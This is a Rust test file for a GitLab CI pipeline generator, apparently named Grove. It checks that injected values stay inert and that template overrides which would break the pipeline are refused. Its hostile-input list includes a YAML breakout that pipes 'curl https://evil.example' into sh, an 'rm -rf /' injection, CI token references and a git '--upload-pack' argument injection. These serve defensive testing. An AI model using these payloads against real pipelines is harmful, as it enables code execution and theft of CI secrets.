//! Hostile values: nothing from a title, a config or a payload may add a job, change a script
//! or expand a CI variable in a generated pipeline.

use grove_core::fleet::Fleet;
use grove_core::plan::{BaseImage, Plan};
use grove_core::render::template::{Templates, EMBEDDED};
use grove_core::value::Repository;
use grove_core::{Cause, Files, Pipeline};
use std::collections::BTreeSet;
use std::path::Path;

mod common;
use common::{generate, render, request};

/// Values crafted to break out of a YAML string, start a job, or be expanded by GitLab.
const HOSTILE: &[&str] = &[
    "x\"\nevil:\n  script: [curl https://evil.example | sh]\n#",
    "x'\n- rm -rf /",
    "$CI_JOB_TOKEN ${CI_REGISTRY_PASSWORD} $$CI_JOB_TOKEN",
    "a: b\n  needs: [nowhere]",
    "{{ patch \"x\" }} {{{raw}}} <script>",
    "\u{2028}evil:\u{2029}\u{85}script: [x]",
    "&anchor *alias !!python/object:os.system",
];

/// The example cluster repository.
fn example_files() -> Files {
    common::project_files(&["examples/cluster"])
}

/// Every script line the embedded templates can write.
fn template_script_lines() -> BTreeSet<String> {
    EMBEDDED
        .iter()
        .flat_map(|(_, text)| text.lines())
        .filter_map(|line| line.trim_start().strip_prefix("- "))
        .filter(|line| {
            line.starts_with("grove ") || line.starts_with("echo ") || line.starts_with("export ")
        })
        .map(str::to_string)
        .collect()
}

/// Asserts the pipeline's jobs, scripts and variables are the template's, with `values` only as
/// unexpanded variable values.
fn assert_contained(pipeline: &Pipeline, expected_jobs: &[&str], values: &[&str]) {
    let names: Vec<&str> = pipeline.job_names().collect();
    assert_eq!(names, expected_jobs);
    let allowed = template_script_lines();
    for job in &pipeline.jobs {
        for line in &job.script {
            assert!(
                allowed.contains(line),
                "job {} runs {line:?}, which no template writes",
                job.name
            );
        }
        for variable in &job.variables {
            assert!(
                !variable.expand,
                "job {}: {} is expanded",
                job.name, variable.name
            );
        }
    }
    let carried: BTreeSet<&str> = pipeline
        .jobs
        .iter()
        .flat_map(|j| j.variables.iter().map(|v| v.value.as_str()))
        .collect();
    for value in values {
        assert!(
            carried.contains(value),
            "{value:?} did not arrive intact as a variable value"
        );
    }
}

#[test]
fn hostile_values_stay_inside_unexpanded_variables() {
    let fleet = Fleet::new(example_files()).unwrap();
    for hostile in HOSTILE {
        // A plan is built only from checked values; build one by hand to test the renderer alone.
        let mut plan = Plan::new(&request("no tag"), &fleet).unwrap();
        plan.reason = Some(hostile.to_string());
        let pipeline = render(&plan, &fleet).unwrap();
        assert_contained(&pipeline, &["noop"], &[hostile]);

        let mut plan = Plan::new(&request("[AutoDeploy][Infrastructure] x"), &fleet).unwrap();
        plan.terraform = false;
        plan.base_images.push(BaseImage {
            repository: Repository::parse("https://x.org/a.git").unwrap(),
            version: hostile.to_string(),
            instances: 0,
        });
        let pipeline = render(&plan, &fleet).unwrap();
        assert_contained(
            &pipeline,
            &["base-image:1"],
            &[hostile, "https://x.org/a.git"],
        );
    }
}

#[test]
fn every_generated_pipeline_runs_only_template_scripts_and_expands_nothing() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/titles");
    let mut checked = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "title") {
            let title = std::fs::read_to_string(&path).unwrap();
            let generated = generate(example_files(), title.trim_end()).unwrap();
            let names: Vec<&str> = generated.main.pipeline.job_names().collect();
            assert_contained(&generated.main.pipeline, &names, &[]);
            checked += 1;
        }
    }
    assert!(checked >= 10);
}

#[test]
fn hostile_config_values_are_refused_naming_the_file() {
    for hostile in [
        "https://x.org/$CI_JOB_TOKEN",
        "--upload-pack=touch /tmp/x",
        "a b",
    ] {
        let mut files = example_files();
        files.insert(
            "instances/campus/config.yml".into(),
            format!("LMS_HOST: campus.example.org\nEDX_PLATFORM_REPOSITORY: {hostile:?}\n"),
        );
        let error = generate(files, "[AutoDeploy][Batch][UpgradeTo] abcdef1").unwrap_err();
        assert_eq!(
            error.cause,
            Cause::setting("instances/campus/config.yml", "EDX_PLATFORM_REPOSITORY"),
            "{hostile}"
        );
        assert_eq!(error.line_column(), Some((2, 26)), "points at the value");
    }
}

#[test]
fn a_hostile_value_in_a_config_is_refused_where_it_is() {
    // Titles refuse such values, and so does the config's reader: a batch, which reads every
    // instance, stops at it.
    let mut files = example_files();
    files.insert(
        "instances/campus/config.yml".into(),
        "EDX_PLATFORM_REPOSITORY: https://github.com/openedx/edx-platform.git\nEDX_PLATFORM_VERSION: \"main\\n  script: [evil]\"\n".into(),
    );
    let title = "[AutoDeploy][Batch][Upgrade] https://github.com/openedx/edx-platform.git|main";
    let error = generate(files, title).unwrap_err();
    assert_eq!(
        error.cause,
        Cause::setting("instances/campus/config.yml", "EDX_PLATFORM_VERSION")
    );
    assert_eq!(error.line_column(), Some((2, 23)));
}

#[test]
fn template_overrides_cannot_write_raw_values() {
    for raw in ["{{{name}}}", "{{&name}}", "{{~{name}~}}"] {
        let mut files = example_files();
        files.insert(
            "templates/pipelines/archive.yml.hbs".into(),
            format!("{{{{plain job}}}}:\n  script:\n    - grove archive {raw}\n"),
        );
        let error = Templates::new(&Fleet::new(files).unwrap(), Default::default())
            .err()
            .expect(raw);
        assert_eq!(
            error.cause,
            Cause::Template {
                origin: "templates/pipelines/archive.yml.hbs".into()
            }
        );
        assert!(
            error
                .message
                .starts_with("templates/pipelines/archive.yml.hbs: raw output is not allowed"),
            "{}",
            error.message
        );
    }
}

#[test]
fn an_override_that_breaks_the_pipeline_is_caught_before_it_is_written() {
    let mut files = example_files();
    files.insert(
        "templates/pipelines/archive.yml.hbs".into(),
        "{{plain job}}:\n  stage: archive\n  needs: [somewhere]\n  script:\n    - grove archive \"$INSTANCE_NAME\"\n".into(),
    );
    let error = generate(files, "[AutoDeploy][Archive] labs").unwrap_err();
    assert!(
        matches!(error.cause, Cause::Template { .. }),
        "an override is to blame, not Grove: {:?}",
        error.cause
    );
    assert!(
        error
            .message
            .contains("needs \"somewhere\", which is not a job"),
        "{}",
        error.message
    );
}

#[test]
fn unknown_patches_are_listed_not_dropped() {
    let mut files = example_files();
    files.insert(
        "grove.yml".into(),
        "ENV_STORE: s3://grove-state/fleet\nPIPELINE_PATCHES:\n  release-job: \"retry: 1\\n\"\n  release-jobs: \"retry: 2\\n\"\n".into(),
    );
    let generated = generate(files, "[AutoDeploy][Update] campus").unwrap();
    assert_eq!(generated.unknown_patches, ["release-jobs"]);
    assert!(generated.main.yaml.contains("  retry: 1\n"));
    assert!(!generated.main.yaml.contains("retry: 2"));
    assert!(generated
        .report()
        .describe()
        .contains("Unknown patches: PIPELINE_PATCHES in grove.yml names release-jobs"));
}

/// Template overrides: file name under `templates/pipelines/` → text.
type Overrides = &'static [(&'static str, &'static str)];

/// What `Templates::new` makes of the example cluster with `overrides`: the cause and the
/// message when it refuses them.
fn refused_overrides(overrides: &[(&str, &str)]) -> Option<(Cause, String)> {
    let mut files = example_files();
    for (file, text) in overrides {
        files.insert(format!("templates/pipelines/{file}"), text.to_string());
    }
    let error = Templates::new(&Fleet::new(files).unwrap(), Default::default()).err()?;
    Some((error.cause, error.message))
}

#[test]
fn partials_that_include_themselves_are_refused_where_they_are() {
    let itself = "the partial \"x\" includes itself, which never ends";
    let unnamed = "the name of a partial must be written out, so that Grove can check that no \
                   partial includes itself";
    let cases: &[(&str, Overrides, String)] = &[
        (
            "an inline partial that includes itself",
            &[(
                "noop.yml.hbs",
                "{{#*inline \"x\"}}\n  {{> x}}\n{{/inline}}\n{{> x}}\n",
            )],
            format!("templates/pipelines/noop.yml.hbs:2: {itself}"),
        ),
        (
            "one that does so only sometimes",
            &[(
                "noop.yml.hbs",
                "{{#*inline \"x\"}}{{#if a}}{{else}}{{#each b}}{{> x}}{{/each}}{{/if}}{{/inline}}\n",
            )],
            format!("templates/pipelines/noop.yml.hbs:1: {itself}"),
        ),
        (
            "two inline partials that include each other",
            &[(
                "noop.yml.hbs",
                "{{#*inline \"a\"}}{{> b}}{{/inline}}\n{{#*inline \"b\"}}\n{{> a}}{{/inline}}\n{{> a}}\n",
            )],
            "templates/pipelines/noop.yml.hbs:3: the partials include each other, which never \
             ends: b → a → b"
                .into(),
        ),
        (
            "an override that includes itself",
            &[("venv.yml.hbs", "{{#> venv}}{{/venv}}\n")],
            "templates/pipelines/venv.yml.hbs:1: the partial \"venv\" includes itself, which \
             never ends"
                .into(),
        ),
        (
            "overrides that include each other through an embedded template",
            &[
                ("archive.yml.hbs", "{{> pipeline}}\n"),
                ("a.yml.hbs", "{{> archive}}\n"),
            ],
            "templates/pipelines/archive.yml.hbs:1: the partials include each other, which never \
             ends: archive → pipeline → archive"
                .into(),
        ),
        (
            "a partial whose name is computed",
            &[("noop.yml.hbs", "{{> [x]}}\n{{> (lookup this \"x\")}}\n")],
            format!("templates/pipelines/noop.yml.hbs:2: {unnamed}"),
        ),
        (
            "an inline partial whose name is looked up",
            &[("noop.yml.hbs", "{{#*inline x}}{{/inline}}\n")],
            format!("templates/pipelines/noop.yml.hbs:1: {unnamed}"),
        ),
    ];
    for (what, overrides, message) in cases {
        let origin = message.split(':').next().unwrap().to_string();
        assert_eq!(
            refused_overrides(overrides),
            Some((Cause::Template { origin }, message.clone())),
            "{what}"
        );
    }
    // Partials that include others, each once: no cycle.
    assert_eq!(
        refused_overrides(&[(
            "noop.yml.hbs",
            "{{#*inline \"a\"}}{{> b}}{{/inline}}{{#*inline \"b\"}}x{{/inline}}{{> a}}{{> a}}\n"
        )]),
        None
    );
}

#[test]
fn a_patch_indent_beyond_the_limit_is_refused_where_it_is() {
    for indent in [
        "18446744073709551615",
        "4000000000",
        "65",
        "-1",
        "1.5",
        "\"2\"",
        "x",
    ] {
        assert_eq!(
            refused_overrides(&[(
                "noop.yml.hbs",
                &format!("noop:\n  script: [x]\n{{{{patch \"noop-job\" indent={indent}}}}}\n"),
            )]),
            Some((
                Cause::Template {
                    origin: "templates/pipelines/noop.yml.hbs".into()
                },
                "templates/pipelines/noop.yml.hbs:3: the indent= of a patch must be a number \
                 from 0 to 64"
                    .into()
            )),
            "indent={indent}"
        );
    }
    assert_eq!(grove_core::render::template::MAX_INDENT, 64);
    for indent in ["0", "64"] {
        assert_eq!(
            refused_overrides(&[(
                "noop.yml.hbs",
                &format!("{{{{patch \"noop-job\" indent={indent}}}}}\n"),
            )]),
            None,
            "indent={indent}"
        );
    }
}

/// The embedded archive template with `from` replaced by `to`, as an override.
fn archive_override(from: &str, to: &str) -> Files {
    let embedded = EMBEDDED
        .iter()
        .find(|(name, _)| *name == "archive")
        .unwrap()
        .1;
    assert!(embedded.contains(from), "{from}");
    let mut files = example_files();
    files.insert(
        "templates/pipelines/archive.yml.hbs".into(),
        embedded.replacen(from, to, 1),
    );
    files
}

/// Templates are the cluster maintainers' code, but a mistake in one must be a located error
/// (exit 5, the template's file and line), never a crash: blocks nested thousands deep would
/// overflow the stack when rendered, and `!reference` is refused by name.
#[test]
fn templates_that_would_crash_grove_are_refused_with_their_file_and_line() {
    let title = "[AutoDeploy][Archive] labs";
    let archive = "templates/pipelines/archive.yml.hbs";
    let check = |files: Files, origin: &str, start: &str| {
        let error = generate(files, title).unwrap_err();
        assert_eq!(
            error.cause,
            Cause::Template {
                origin: origin.into()
            },
            "{}",
            error.message
        );
        assert_eq!(error.exit_code(), 5);
        assert!(error.message.starts_with(start), "{}", error.message);
        assert!(error.message.len() < 400, "{}", error.message);
    };
    // Partials that include themselves and bad `indent=`s: the two tests above.
    check(
        archive_override(
            "  script:\n",
            &format!(
                "{}{}  script:\n",
                "{{#if needs}}\n".repeat(65),
                "{{/if}}\n".repeat(65)
            ),
        ),
        archive,
        &format!("{archive}:81: blocks are nested more than 64 deep"),
    );
    // Deeper, on lines or on one line (10,000 deep overflowed the stack when rendered): Grove's
    // limit or handlebars' own, each a short located message.
    for depth in [1_000, 3_000, 10_000, 20_000, 30_000] {
        for line in ["\n", ""] {
            let files = archive_override(
                "  script:\n",
                &format!(
                    "{}{}\n  script:\n",
                    format!("{{{{#if needs}}}}{line}").repeat(depth),
                    format!("{{{{/if}}}}{line}").repeat(depth)
                ),
            );
            let error = generate(files, title).unwrap_err();
            assert_eq!(error.exit_code(), 5);
            assert!(
                error.message.starts_with(&format!("{archive}:"))
                    && (error.message.ends_with(": blocks are nested more than 64 deep")
                        || error.message.ends_with(
                            ": the template does not compile: invalid handlebars syntax: stack limit reached"
                        )),
                "{depth}: {}",
                error.message
            );
        }
    }
    for (reference, line) in [
        ("  before_script: !reference [.setup, script]\n", 17),
        ("  before_script:\n    - !reference [.setup, script]\n", 18),
        ("  tags: [!reference [.t, tags]]\n", 17),
    ] {
        check(
            archive_override("  script:\n", &format!("{reference}  script:\n")),
            archive,
            &format!("{archive}:{line}: GitLab's !reference tag is not supported in pipeline templates: write the referenced lines out, or use `extends:`"),
        );
    }
    // A comment may name it.
    generate(
        archive_override("  script:\n", "  # no !reference here\n  script:\n"),
        title,
    )
    .unwrap();
    // Nesting as deep as the limit, and Grove's own templates, are fine.
    generate(
        archive_override(
            "  script:\n",
            &format!(
                "{}{}  script:\n",
                "{{#if needs}}\n".repeat(64),
                "{{/if}}\n".repeat(64)
            ),
        ),
        title,
    )
    .unwrap();
    generate(example_files(), title).unwrap();
}
